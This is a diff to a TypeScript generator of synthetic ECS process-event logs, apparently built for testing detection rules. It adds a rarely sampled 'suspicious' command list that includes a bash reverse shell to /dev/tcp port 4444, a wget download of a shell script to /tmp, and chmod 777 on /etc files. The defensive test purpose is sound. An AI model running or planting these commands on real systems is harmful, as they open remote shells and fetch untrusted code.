@@ -1,11 +1,11 @@
 // Process events such as a busy Linux server has them, as the lines of JSON that a sensor writes. Always the same.
 
-/** Lines of ECS process events: few programs, many command lines, most of them harmless. */
+/** Lines of ECS process events: few programs, many command lines, two in a hundred of them suspicious. */
 export function processEventLines(count: number): string[] {
   const random = generator(1);
   const pick = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)] as T;
   return Array.from({ length: count }, (_, index) => {
-    const [executable, ...templates] = pick(programs);
+    const [executable, ...templates] = pick(random() < 0.02 ? suspicious : programs);
     const command = pick(templates)
       .replaceAll('#', () => String(Math.floor(random() * 1e6)))
       .replaceAll('@', () => pick(words));
@@ -48,10 +48,16 @@ const programs: readonly Program[] = [
   ['/usr/bin/rsync', 'rsync -a /srv/@/ backup#:/srv/@/'],
   ['/usr/bin/id', 'id -u @'],
   ['/usr/bin/stat', 'stat -c %Y /run/@.pid'],
+];
+
+/** What rules look for is seldom seen. */
+const suspicious: readonly Program[] = [
   ['/usr/bin/crontab', 'crontab -l', 'crontab /tmp/@'],
   ['/usr/bin/at', 'at now + # minutes'],
   ['/usr/bin/base64', 'base64 -d /tmp/@.b64'],
-  ['/usr/bin/chmod', 'chmod +x /tmp/@-#', 'chmod 644 /etc/@.conf'],
+  ['/usr/bin/chmod', 'chmod +x /tmp/@-#', 'chmod 777 /etc/@.conf'],
+  ['/usr/bin/bash', 'bash -i >& /dev/tcp/10.0.0.#/4444 0>&1'],
+  ['/usr/bin/wget', 'wget http://198.51.100.7/@.sh -O /tmp/@.sh'],
 ];
 
 const words =
